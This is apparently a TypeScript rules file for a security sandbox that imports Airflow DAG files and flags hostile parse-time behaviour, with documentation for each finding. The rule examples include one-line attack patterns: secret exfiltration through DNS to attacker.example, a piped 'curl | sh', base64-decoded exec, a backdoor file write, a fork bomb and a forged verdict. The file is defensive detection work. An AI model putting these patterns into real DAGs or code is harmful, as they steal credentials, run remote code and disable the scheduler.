import type { SandboxCategory, Severity } from '../report';

export interface SandboxRule {
  id: string;
  name: string;
  category: SandboxCategory;
  severity: Severity;
  message: string;
  docs: { what: string; why: string; example: string; useInstead: string };
}

/** Metadata of every finding the sandbox can produce (ids are stable: DG9xx). */
export const SANDBOX_RULES: readonly SandboxRule[] = [
  {
    id: 'DG901',
    name: 'sandbox-network-attempt',
    category: 'sandbox-violation',
    severity: 'high',
    message: 'Parsing this file attempted network access',
    docs: {
      what: 'Top-level code opened a non-UNIX socket, connected, sent a datagram or issued an HTTP/FTP/SMTP request while the file was being imported.',
      why: 'The scheduler / dag-processor imports every DAG file every few seconds. Network calls at parse time are a classic way to beacon out, fetch a second stage or exfiltrate secrets from the parser, which holds database credentials.',
      example: 'import requests\nCONFIG = requests.get("https://example.com/cfg").json()  # runs on every parse',
      useInstead: 'Do I/O inside a task (operator / @task) so it runs on a worker at run time, or read configuration from Airflow Variables/Params templated at run time.',
    },
  },
  {
    id: 'DG902',
    name: 'sandbox-dns-lookup',
    category: 'sandbox-violation',
    severity: 'high',
    message: 'Parsing this file attempted a DNS lookup',
    docs: {
      what: 'Top-level code resolved a host name (getaddrinfo, gethostbyname, ...) during import.',
      why: 'DNS is the favourite exfiltration channel because it often leaves even "no-egress" networks (data encoded in the queried name).',
      example: 'socket.gethostbyname(f"{secret}.attacker.example")',
      useInstead: 'Resolve hosts inside tasks at run time, never at parse time.',
    },
  },
  {
    id: 'DG903',
    name: 'sandbox-process-spawn',
    category: 'sandbox-violation',
    severity: 'high',
    message: 'Parsing this file attempted to start or signal a process',
    docs: {
      what: 'Top-level code called subprocess, os.system, os.exec*, os.posix_spawn, os.fork, pty.spawn or os.kill during import.',
      why: 'Spawning processes from the parser runs arbitrary commands with the dag-processor identity on every parse loop.',
      example: 'import subprocess\nsubprocess.run(["sh", "-c", "curl ... | sh"])',
      useInstead: 'Use BashOperator / @task.bash so the command runs in a task, with its own logs, retries and permissions.',
    },
  },
  {
    id: 'DG904',
    name: 'sandbox-write-outside-tmp',
    category: 'sandbox-violation',
    severity: 'high',
    message: 'Parsing this file attempted to write or delete a file outside the temporary directory',
    docs: {
      what: 'Top-level code opened a file for writing, or renamed/removed/chmod-ed a path, outside /tmp during import.',
      why: 'Writing into the DAG folder or the Airflow installation from the parser is how a malicious DAG persists itself, plants other DAGs or patches Airflow.',
      example: 'open(os.path.join(os.path.dirname(__file__), "backdoor.py"), "w").write(payload)',
      useInstead: 'Generate files in CI and commit them, or write only inside tasks to a proper storage location.',
    },
  },
  {
    id: 'DG905',
    name: 'sandbox-dynamic-code',
    category: 'sandbox-violation',
    severity: 'medium',
    message: 'Parsing this file executed dynamically built code (exec/eval/compile/marshal)',
    docs: {
      what: 'DAG code itself called exec/eval/compile on a string or loaded a marshalled code object during import.',
      why: 'Dynamic code defeats review and static analysis; it is the usual wrapper around obfuscated payloads.',
      example: 'exec(base64.b64decode(BLOB))',
      useInstead: 'Write the code out; for dynamic DAGs use a factory function with plain data (dict/YAML) as input.',
    },
  },
  {
    id: 'DG906',
    name: 'sandbox-native-code',
    category: 'sandbox-violation',
    severity: 'high',
    message: 'Parsing this file used ctypes / dlopen to call native code',
    docs: {
      what: 'DAG code loaded a shared library or called a C function through ctypes during import.',
      why: 'ctypes gives raw syscalls and arbitrary memory access: it bypasses Python-level auditing and is how sandbox escapes (unshare, mount, ptrace) are attempted.',
      example: 'libc = ctypes.CDLL(None); libc.unshare(0x10000000)',
      useInstead: 'Nothing in a DAG definition needs native calls; move such code to a task or a reviewed library.',
    },
  },
  {
    id: 'DG907',
    name: 'sandbox-tampering',
    category: 'sandbox-violation',
    severity: 'critical',
    message: 'The sandbox could not vouch for this file: tampering with the harness or a forged / missing result',
    docs: {
      what: 'The import touched the harness (audit hooks, gc/frame walks into the harness, its channel), wrote unauthenticated data where results are expected, or ended without an authenticated result.',
      why: 'Code that tries to forge its own verdict is hostile by definition. The sandbox fails closed: anything it cannot vouch for is flagged.',
      example: 'print(\'{"status": "ok"}\'); os._exit(0)',
      useInstead: 'DAG files should only define DAGs; they never need to exit the interpreter, add audit hooks or inspect the garbage collector.',
    },
  },
  {
    id: 'DG908',
    name: 'sandbox-canary-exfiltration',
    category: 'sandbox-violation',
    severity: 'critical',
    message: 'A canary secret appeared in a network, DNS, process or file operation (attempted exfiltration)',
    docs: {
      what: 'The sandbox answers Variable.get, BaseHook.get_connection and secret-looking environment variables with recognisable canary values; one of them showed up in a connection target, DNS name, command line or written path.',
      why: 'That is a secret being sent somewhere: credential theft from the parser.',
      example: 'pw = BaseHook.get_connection("prod").password\nsocket.gethostbyname(pw + ".attacker.example")',
      useInstead: 'Read connections inside tasks through hooks; never move secret values anywhere at parse time.',
    },
  },
  {
    id: 'DG909',
    name: 'sandbox-forbidden-syscall',
    category: 'sandbox-violation',
    severity: 'critical',
    message: 'The kernel ended the import of this file for a forbidden system call',
    docs: {
      what: "The file's process was killed with SIGSYS by its seccomp filter: it created a network (inet/inet6/packet/netlink) socket, executed a program, forked, or called ptrace, process_vm_*, pidfd_*, mount/unshare/setns, bpf, keyctl, userfaultfd or io_uring. The audit events before it (if any) name what was attempted.",
      why: 'These are the decisive behaviours of a hostile DAG (beaconing, exfiltration, running commands, attacking the parser). The kill is enforced by the kernel, so Python code cannot catch or hide it.',
      example: 'import socket\nsocket.create_connection(("203.0.113.7", 443))',
      useInstead: 'Keep network access, subprocesses and low-level system calls inside tasks, which run on workers at run time.',
    },
  },
  {
    id: 'DG950',
    name: 'sandbox-timeout',
    category: 'resource-limit',
    severity: 'medium',
    message: 'Parsing this file exceeded the sandbox time limit and was killed',
    docs: {
      what: 'The import did not finish within --sandbox-timeout seconds (per file) or the whole run exceeded its wall-clock limit. The kill is by SIGKILL from outside the interpreter, so disabling SIGALRM does not help.',
      why: 'Slow or hanging top-level code stalls the dag-processor for every other DAG; deliberate spins are a denial of service.',
      example: 'while True: pass   # or time.sleep(3600), or a blocking network call',
      useInstead: 'Keep top-level code to DAG construction; move slow work into tasks.',
    },
  },
  {
    id: 'DG951',
    name: 'sandbox-memory-limit',
    category: 'resource-limit',
    severity: 'high',
    message: 'Parsing this file exhausted the sandbox memory limit (OOM-killed)',
    docs: {
      what: 'The kernel OOM killer ended the import because the container hit its memory limit (swap is disabled).',
      why: 'A parse that needs gigabytes takes the dag-processor down with it.',
      example: 'BIG = [bytearray(1 << 26) for _ in range(1000)]',
      useInstead: 'Do not load data at parse time; load it inside tasks.',
    },
  },
  {
    id: 'DG952',
    name: 'sandbox-pids-limit',
    category: 'resource-limit',
    severity: 'high',
    message: 'Parsing this file created too many processes (pids limit / fork bomb)',
    docs: {
      what: 'The import forked repeatedly until the container pids limit or the harness fork threshold stopped it.',
      why: 'A fork bomb in a DAG file takes down the dag-processor host.',
      example: 'while True: os.fork()',
      useInstead: 'Never create processes at parse time.',
    },
  },
  {
    id: 'DG953',
    name: 'sandbox-output-cap',
    category: 'resource-limit',
    severity: 'medium',
    message: 'Parsing this file produced more output than the sandbox cap and was killed',
    docs: {
      what: 'stdout/stderr written during import exceeded the cap; the harness stops reading, kills the import and never buffers the rest.',
      why: 'Unbounded output at parse time fills dag-processor logs and disks, and is used to hide other output.',
      example: 'for _ in range(4096): os.write(1, b"A" * 2**20)',
      useInstead: 'Log sparingly, inside tasks.',
    },
  },
  {
    id: 'DG960',
    name: 'sandbox-import-error',
    category: 'import-error',
    severity: 'medium',
    message: 'This file does not import (Airflow would report an import error)',
    docs: {
      what: 'Importing the file the way Airflow DagBag does raised an exception, e.g. a provider that is not installed in the image.',
      why: 'Airflow would show a broken DAG; the DAGs in the file would silently stop being scheduled.',
      example: 'from airflow.providers.snowflake.operators.snowflake import SnowflakeOperator  # provider not installed',
      useInstead: 'Install the provider in the image used for --sandbox (the same image as production) or fix the import.',
    },
  },
  {
    id: 'DG961',
    name: 'sandbox-no-dag',
    category: 'import-error',
    severity: 'low',
    message: 'This file looks like a DAG file but defines no DAG',
    docs: {
      what: 'The file mentions "airflow" and "dag" (Airflow\'s safe-mode heuristic would import it) but no DAG object was found after import.',
      why: 'Usually a DAG that was meant to be registered but is not (e.g. a @dag function never called), so it silently disappears.',
      example: '@dag(...)\ndef pipeline(): ...\n# missing: pipeline()',
      useInstead: 'Call the @dag function at module level, or move helper code out of the DAG folder / into .airflowignore.',
    },
  },
  {
    id: 'DG962',
    name: 'sandbox-crash',
    category: 'sandbox-violation',
    severity: 'high',
    message: 'Parsing this file crashed the interpreter',
    docs: {
      what: 'The import process died from a signal other than the sandbox kill (e.g. SIGSEGV, SIGABRT).',
      why: 'A crashing parse is either a broken native extension or an exploit attempt; in both cases the result cannot be vouched for.',
      example: 'ctypes.string_at(0)',
      useInstead: 'Fix the crashing import; keep native code out of DAG definitions.',
    },
  },
];

export const SANDBOX_RULE_BY_ID: ReadonlyMap<string, SandboxRule> = new Map(SANDBOX_RULES.map((r) => [r.id, r]));

/** Event kind (from the in-container harness) -> rule id. A Map: a kind is data from the container, and a plain
 * object would answer "constructor" or "__proto__" from its prototype. */
export const EVENT_RULE: ReadonlyMap<string, string> = new Map([
  ['connect', 'DG901'],
  ['dns', 'DG902'],
  ['spawn', 'DG903'],
  ['write', 'DG904'],
  ['delete', 'DG904'],
  ['exec', 'DG905'],
  ['ctypes', 'DG906'],
  ['tamper', 'DG907'],
  ['exfiltration', 'DG908'],
]);

/** Harness / runner file status -> rule id (statuses that are not clean by themselves). */
export const STATUS_RULE: ReadonlyMap<string, string> = new Map([
  ['timeout', 'DG950'],
  ['oom', 'DG951'],
  ['pids', 'DG952'],
  ['output-cap', 'DG953'],
  ['import-error', 'DG960'],
  ['no-dag', 'DG961'],
  ['crashed', 'DG962'],
  ['tampered', 'DG907'],
  ['forbidden-syscall', 'DG909'],
]);
